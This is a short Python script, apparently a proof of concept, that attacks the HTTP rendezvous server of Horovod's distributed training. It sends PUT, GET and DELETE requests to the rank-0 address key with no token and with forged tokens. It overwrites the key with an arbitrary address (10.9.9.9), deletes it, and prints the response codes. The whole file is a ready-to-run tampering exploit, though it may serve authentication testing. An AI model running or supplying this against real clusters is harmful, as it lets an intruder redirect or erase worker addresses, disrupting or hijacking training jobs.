"""Attack: replace and delete the addresses of ranks in Horovod's rendezvous. ``meddle_with_rendezvous.py HOST PORT``.

Prints the statuses of PUT, GET and DELETE, without a token and with a wrong token.
"""

import http.client
import sys

found = []
for prefix in ("", "/" + "0" * 32 + ":" + sys.argv[2], "/:" + sys.argv[2]):
    for method in ("PUT", "GET", "DELETE"):
        connection = http.client.HTTPConnection(sys.argv[1], int(sys.argv[2]), timeout=5)
        connection.request(method, prefix + "/global/0", body=b"10.9.9.9" if method == "PUT" else None)
        found.append(connection.getresponse().status)
print(*found, flush=True)
